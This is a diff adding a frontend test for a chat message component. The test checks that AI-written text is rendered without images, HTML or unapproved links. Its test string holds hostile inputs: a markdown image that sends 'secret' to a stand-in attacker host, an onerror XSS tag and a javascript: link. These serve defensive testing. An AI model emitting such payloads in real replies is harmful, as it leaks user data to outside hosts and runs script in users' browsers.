@@ -21,6 +21,17 @@ describe('Markdown', () => {
 });
 
 describe('Bubble', () => {
+  it('shows what the AI says without images, HTML and strange links', () => {
+    const text =
+      '![x](https://evil.org/a.png?q=secret) <img src=x onerror=alert(1)> <a href="https://evil.org">y</a> ' +
+      '[z](javascript:alert(1)) https://evil.org/w [ok](https://h.org/)';
+    const { container } = render(Bubble, { kind: 'ai', mine: false, text, hosts: ['h.org'] });
+    expect(container.querySelector('img, script, iframe, object')).toBeNull();
+    const links = [...container.querySelectorAll('a')].map((link) => link.href);
+    expect(links).toEqual(['https://h.org/']);
+    expect(container.textContent).toContain('https://evil.org/a.png?q=secret');
+  });
+
   it('tells readers to wait while the AI writes', () => {
     const props = { kind: 'ai' as const, mine: false, text: 'Hello', streaming: true };
     const { container } = render(Bubble, props);
